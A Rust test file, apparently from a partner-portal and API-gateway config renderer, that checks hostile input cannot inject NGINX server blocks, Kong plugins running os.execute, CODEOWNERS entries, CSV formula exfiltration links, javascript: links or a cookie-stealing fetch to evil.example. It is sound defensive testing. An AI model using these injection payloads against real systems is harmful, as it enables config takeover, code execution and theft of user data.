//! Hostile input: encoding (see main.rs). A value from the repository must not add a line, a
//! directive, a key, a row or a block to an output, nor a live script link to the portal
//! (SPEC §9 "Encoding" and "Links"), and NGINX compares keys exactly (SPEC §12, in
//! tests/nginx.rs).

#[allow(unused_imports)]
use super::*;
use common::nginx::free_port;
use common::{copy_example, edit, write};
use std::fs;
use std::io::{Read, Write as _};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// Every rendered file below `dir` (recursively), by path.
fn files_below(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let Ok(entries) = fs::read_dir(dir) else { return out };
    for entry in entries.flatten() {
        let path = entry.path();
        if entry.file_type().unwrap().is_dir() {
            out.extend(files_below(&path));
        } else {
            out.push((path.clone(), fs::read(&path).unwrap()));
        }
    }
    out
}

/// Asserts `validate` fails with a `schema` finding in `file`.
fn assert_schema_finding(dir: &Path, file: &str) {
    let v = run(dir, &["validate", "--format", "json"]);
    assert_eq!(v.code, Some(1), "validate must fail: {}", v.all());
    let json: serde_json::Value = serde_json::from_str(&v.stdout).unwrap_or_else(|e| panic!("{e}: {}", v.stdout));
    assert!(
        json["diagnostics"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["code"] == "schema" && d["file"] == file && d["line"].as_u64().is_some_and(|l| l > 0)),
        "no schema finding at {file}: {}",
        v.stdout
    );
}

/// The status of `GET path` without an API key, or None when nothing answers.
fn status_without_key(port: u16, path: &str) -> Option<u16> {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
    )
    .ok()?;
    let mut response = String::new();
    stream.read_to_string(&mut response).ok()?;
    response.split(' ').nth(1).and_then(|s| s.parse().ok())
}

/// `nginx -t` on the include, then NGINX started: a request without a key gets 401 on the
/// gateway's port, and the attacker's port does not give the attacker's answer (`200 open`).
#[allow(clippy::print_stderr)]
fn nginx_refuses_without_key(conf: &str, run_dir: &Path, listen: u16, attacker: u16) {
    let (nginx, perl) = match common::nginx::available() {
        Ok(found) => found,
        Err(why) => {
            eprintln!("{why}: only the structure of the include was checked");
            return;
        }
    };
    fs::write(run_dir.join("keys.map"), "\"key-acme-current\" acme-sbx-2;\n").unwrap();
    let _nginx = common::nginx::start(&nginx, &perl, run_dir, conf.as_bytes(), listen);
    assert_eq!(status_without_key(listen, "/v1/shipments/1"), Some(401));
    // Not "nothing answers": `free_port` releases the port it found, and another program may
    // listen there by now (this process never hands a port out twice). Only the attacker's
    // block answers 200.
    assert_ne!(
        status_without_key(attacker, "/v1/shipments/1"),
        Some(200),
        "the attacker's server block answers"
    );
}

/// Lines opening a `server` block.
fn server_blocks(conf: &str) -> usize {
    conf.lines()
        .filter(|l| {
            let t = l.trim_start();
            !t.starts_with('#') && t.starts_with("server") && t["server".len()..].trim_start().starts_with('{')
        })
        .count()
}

#[test]
fn nginx_display_name_newline_adds_no_server_block() {
    let dir = copy_example();
    let run_dir = tempfile::tempdir().unwrap();
    let (listen, attacker) = (free_port(), free_port());
    edit(
        dir.path(),
        "program.yaml",
        "{target: nginx, environment: sandbox, path: dist/gateway/nginx-sandbox.conf}",
        &format!(
            "{{target: nginx, environment: sandbox, path: dist/gateway/nginx-sandbox.conf, keysFile: \"{d}/keys.map\", listen: \"127.0.0.1:{listen}\", accessLog: \"{d}/usage.jsonl\"}}",
            d = run_dir.path().display()
        ),
    );
    edit(
        dir.path(),
        "products/shipments.yaml",
        "  displayName: Shipments API\n",
        &format!("  displayName: \"Shipments API\\nserver {{ listen 127.0.0.1:{attacker}; return 200 open; }}\\n#\"\n"),
    );
    // NGINX resolves upstreams at start: loopback, where nothing needs to answer.
    for product in ["shipments", "tracking", "rates"] {
        edit(
            dir.path(),
            &format!("products/{product}.yaml"),
            &format!("upstream: \"https://sandbox.{product}.internal\""),
            "upstream: \"http://127.0.0.1:9\"",
        );
    }
    assert_schema_finding(dir.path(), "products/shipments.yaml");

    // Whatever `render` does with it, it writes no include with the attacker's block.
    let r = run(dir.path(), &["render"]);
    let conf_path = dir.path().join("dist/gateway/nginx-sandbox.conf");
    if let Ok(conf) = fs::read_to_string(&conf_path) {
        assert_eq!(server_blocks(&conf), 1, "{conf}");
        assert!(!conf.contains(&format!("listen 127.0.0.1:{attacker}")), "{conf}");
    } else {
        assert_ne!(r.code, Some(0), "{}", r.all());
    }

    // The same attack without a line break passes the schema: it must stay one token.
    edit(
        dir.path(),
        "products/shipments.yaml",
        &format!("  displayName: \"Shipments API\\nserver {{ listen 127.0.0.1:{attacker}; return 200 open; }}\\n#\"\n"),
        &format!(
            "  displayName: \"Shipments API\\\"; }} server {{ listen 127.0.0.1:{attacker}; return 200 open; }} #\"\n"
        ),
    );
    let r = run(dir.path(), &["render"]);
    assert_eq!(r.code, Some(0), "{}", r.all());
    let conf = fs::read_to_string(&conf_path).unwrap();
    assert_eq!(server_blocks(&conf), 1, "{conf}");
    nginx_refuses_without_key(&conf, run_dir.path(), listen, attacker);
}

#[test]
fn nginx_values_that_no_token_can_carry_are_refused() {
    // An upstream path with `$` would be expanded by NGINX: here it would send each
    // partner's API key to the upstream in the request path.
    let dir = copy_example();
    edit(
        dir.path(),
        "products/shipments.yaml",
        "upstream: \"https://sandbox.shipments.internal\"",
        "upstream: \"https://sandbox.shipments.internal/$http_x_api_key\"",
    );
    assert_schema_finding(dir.path(), "products/shipments.yaml");
    let r = run(dir.path(), &["render"]);
    assert_ne!(r.code, Some(0), "{}", r.all());
    let conf = fs::read_to_string(dir.path().join("dist/gateway/nginx-sandbox.conf")).unwrap_or_default();
    assert!(!conf.contains("$http_x_api_key"), "{conf}");
}

#[test]
fn kong_program_display_name_newline_adds_no_plugin() {
    let dir = copy_example();
    edit(
        dir.path(),
        "program.yaml",
        "  displayName: Northwind Partner Program\n",
        "  displayName: \"Northwind\\nplugins:\\n- name: pre-function\\n  config: {access: [\\\"os.execute('id')\\\"]}\\n#\"\n",
    );
    assert_schema_finding(dir.path(), "program.yaml");
    let r = run(dir.path(), &["render"]);
    for env in ["production", "sandbox"] {
        let path = dir.path().join(format!("dist/gateway/kong-{env}.yaml"));
        match fs::read_to_string(&path) {
            Ok(text) => {
                let doc: serde_json::Value = yaml_serde::from_str(&text).unwrap_or_else(|e| panic!("{e}: {text}"));
                assert!(!text.contains("pre-function"), "{text}");
                assert_eq!(doc["_format_version"], "3.0");
            }
            Err(_) => assert_ne!(r.code, Some(0), "{}", r.all()),
        }
    }
    let envoy = fs::read_to_string(dir.path().join("dist/gateway/envoy-ratelimit-production.yaml")).unwrap_or_default();
    assert!(!envoy.contains("pre-function"), "{envoy}");
}

#[test]
fn codeowners_folder_name_newline_adds_no_owner() {
    let dir = copy_example();
    let evil = dir.path().join("partners/emea\n* @evil-user\n#");
    fs::create_dir_all(&evil).unwrap();
    fs::rename(
        dir.path().join("partners/emea/acme-logistics.yaml"),
        evil.join("acme-logistics.yaml"),
    )
    .unwrap();
    let r = run(dir.path(), &["render"]);
    let codeowners = fs::read_to_string(dir.path().join("dist/CODEOWNERS")).unwrap_or_default();
    assert!(
        !codeowners
            .lines()
            .any(|l| l.trim_start().starts_with('*') && l.contains("@evil-user")),
        "{codeowners}"
    );
    assert!(!codeowners.contains("@evil-user"), "{codeowners}");
    assert!(matches!(r.code, Some(1) | Some(2)), "{}", r.all());
    assert!(
        r.all().contains("partners/emea"),
        "the refusal names the path: {}",
        r.all()
    );
}

/// Rows of a CSV text (RFC 4180), fields unquoted.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = vec![];
    let mut row = vec![];
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\n') => {
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (_, c) => field.push(c),
        }
    }
    if !field.is_empty() || !row.is_empty() {
        row.push(field);
        rows.push(row);
    }
    rows
}

#[test]
fn csv_display_name_adds_no_row_and_no_formula() {
    let dir = copy_example();
    // A formula: a spreadsheet would run it on open.
    edit(
        dir.path(),
        "partners/caribe-shipping.yaml",
        "  displayName: Caribe Shipping\n",
        "  displayName: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"Caribe\\\")\"\n",
    );
    let r = run(dir.path(), &["render"]);
    assert_eq!(r.code, Some(0), "{}", r.all());
    let csv = fs::read_to_string(dir.path().join("dist/partners.csv")).unwrap();
    let rows = csv_rows(&csv);
    assert!(rows.iter().all(|r| r.len() == 3), "{csv}");
    for field in rows.iter().flatten() {
        assert!(
            !field.starts_with(['=', '+', '-', '@']),
            "a formula reaches the CSV: {field:?}\n{csv}"
        );
    }
    assert!(
        rows.iter()
            .any(|r| r[0] == "caribe-shipping" && r[1].contains("HYPERLINK")),
        "{csv}"
    );

    // A line break: a row of the attacker's.
    edit(
        dir.path(),
        "partners/caribe-shipping.yaml",
        "  displayName: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"Caribe\\\")\"\n",
        "  displayName: \"Caribe\\nfake-partner,Injected,https://evil.example\"\n",
    );
    assert_schema_finding(dir.path(), "partners/caribe-shipping.yaml");
    fs::remove_file(dir.path().join("dist/partners.csv")).unwrap();
    run(dir.path(), &["render"]);
    let csv = fs::read_to_string(dir.path().join("dist/partners.csv")).unwrap_or_default();
    assert!(!csv.lines().any(|l| l.starts_with("fake-partner")), "{csv}");
    assert!(csv_rows(&csv).iter().all(|r| r.len() == 3), "{csv}");
}

const BAD_SCHEMES: [&str; 3] = ["javascript", "data", "vbscript"];

/// No rendered file links or embeds a script scheme (case-insensitive, entities decoded as a
/// browser would for the few spellings the portal could write).
fn assert_no_script_links(dir: &Path) {
    let files = files_below(&dir.join("dist"));
    assert!(!files.is_empty(), "nothing rendered");
    for (path, bytes) in files {
        let text = String::from_utf8_lossy(&bytes)
            .to_lowercase()
            .replace("&#106;", "j")
            .replace("&#x6a;", "j")
            .replace("&#58;", ":");
        for scheme in BAD_SCHEMES {
            for attr in ["href", "src"] {
                for quote in ["\"", "'", ""] {
                    let needle = format!("{attr}={quote}{scheme}");
                    assert!(!text.contains(&needle), "{} holds `{needle}`", path.display());
                    let spaced = format!("{attr}={quote} {scheme}");
                    assert!(!text.contains(&spaced), "{} holds `{spaced}`", path.display());
                }
            }
        }
    }
}

#[test]
fn portal_website_with_a_script_scheme_is_no_link() {
    for website in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<script>x</script>",
        "vbscript:msgbox(1)",
        " javascript:alert(1)",
    ] {
        let dir = copy_example();
        edit(
            dir.path(),
            "partners/caribe-shipping.yaml",
            "  listed: true\n",
            &format!(
                "  listed: true\n  website: {}\n",
                serde_json::to_string(website).unwrap()
            ),
        );
        assert_schema_finding(dir.path(), "partners/caribe-shipping.yaml");
        run(dir.path(), &["render"]);
        if dir.path().join("dist").exists() {
            assert_no_script_links(dir.path());
        }
    }
}

const HOSTILE_MARKDOWN: &str = "\n\n[click](javascript:alert(1)) [case](JaVaScRiPt:alert(2)) [ent](&#106;avascript:alert(3)) \
[space]( javascript:alert(4)) <javascript:alert(5)> <vbscript:msgbox(6)> ![img](data:image/svg+xml;base64,PHN2Zz4=) \
[data](data:text/html;base64,PHNjcmlwdD4=) [ref][evil] [tab](java\tscript:alert(7))\n\n[evil]: vbscript:msgbox(8)\n";

#[test]
fn portal_markdown_links_with_a_script_scheme_are_text() {
    let dir = copy_example();
    // A product description (YAML block text) and a terms text.
    let shipments = fs::read_to_string(dir.path().join("products/shipments.yaml")).unwrap();
    let shipments = shipments.replacen(
        "  description: >-\n",
        &format!(
            "  description: {}\n  x-was: >-\n",
            serde_json::to_string(&format!("Shipments.{HOSTILE_MARKDOWN}")).unwrap()
        ),
        1,
    );
    // Drop the folded block that followed (now under the placeholder key) by keeping only
    // the first description; the schema forbids unknown keys, so remove the placeholder.
    let mut out = String::new();
    let mut skipping = false;
    for line in shipments.lines() {
        if line.starts_with("  x-was:") {
            skipping = true;
            continue;
        }
        if skipping && line.starts_with("    ") {
            continue;
        }
        skipping = false;
        out.push_str(line);
        out.push('\n');
    }
    write(dir.path(), "products/shipments.yaml", out);
    let tos = fs::read_to_string(dir.path().join("terms/partner-tos/2.0.md")).unwrap();
    write(
        dir.path(),
        "terms/partner-tos/2.0.md",
        format!("{tos}{HOSTILE_MARKDOWN}"),
    );
    let v = run(dir.path(), &["validate"]);
    assert_eq!(v.code, Some(0), "{}", v.all());
    let r = run(dir.path(), &["render"]);
    assert_eq!(r.code, Some(0), "{}", r.all());
    assert_no_script_links(dir.path());
    // The links are still there as text, and the safe ones still link.
    let page = fs::read_to_string(dir.path().join("dist/docs/products/shipments.html")).unwrap();
    assert!(page.contains("click"), "{page}");
}

#[test]
fn every_portal_page_carries_a_csp_that_forbids_scripts() {
    let dir = copy_example();
    // A program template that replaces the layout and adds a script of its own.
    let base =
        fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("src/portal/templates/base.html.j2")).unwrap();
    write(
        dir.path(),
        "templates/docs/base.html.j2",
        base.replace(
            "<head>",
            "<head>\n<script>fetch('https://evil.example/'+document.cookie)</script>",
        ),
    );
    let r = run(dir.path(), &["render"]);
    assert_eq!(r.code, Some(0), "{}", r.all());
    let pages: Vec<_> = files_below(&dir.path().join("dist/docs"))
        .into_iter()
        .filter(|(p, _)| p.extension().is_some_and(|e| e == "html"))
        .collect();
    assert!(pages.len() >= 5, "{pages:?}");
    for (path, bytes) in pages {
        let text = String::from_utf8(bytes).unwrap();
        let csp = text
            .find("http-equiv=\"Content-Security-Policy\"")
            .unwrap_or_else(|| panic!("{} has no CSP", path.display()));
        let policy = &text[csp..text[csp..].find('>').map(|i| csp + i).unwrap()];
        // The API reference runs one script, its search, allowed by its hash; no page allows
        // any other (the injected one above has another hash, so it never runs).
        let scripts = if path.to_string_lossy().contains("/api") {
            format!("script-src {}", partnerctl::portal::search::script_source())
        } else {
            "script-src 'none'".to_string()
        };
        for directive in [scripts.as_str(), "object-src 'none'", "base-uri 'none'"] {
            assert!(policy.contains(directive), "{}: {policy}", path.display());
        }
        assert!(!policy.contains("unsafe"), "{}: {policy}", path.display());
        if let Some(script) = text.find("<script") {
            assert!(csp < script, "{}: the CSP comes after a script", path.display());
        }
    }
}
